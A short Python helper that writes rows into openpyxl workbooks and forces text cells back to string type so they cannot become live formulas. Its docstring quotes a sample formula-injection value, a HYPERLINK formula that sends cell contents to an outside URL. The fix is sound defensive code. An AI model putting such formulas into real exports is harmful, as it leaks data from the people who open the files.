"""Writing rows into exported workbooks as data: openpyxl turns any text starting with "=" into a formula,
so an enterprise named ``=HYPERLINK("http://…?leak="&B2,"点击查看")`` would come back as a live link in
the registry export and the ledgers. Text is stored as text, whatever it starts with."""
from __future__ import annotations


def append_row(sheet, values: list) -> None:
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type == "f":
            cell.data_type = "s"
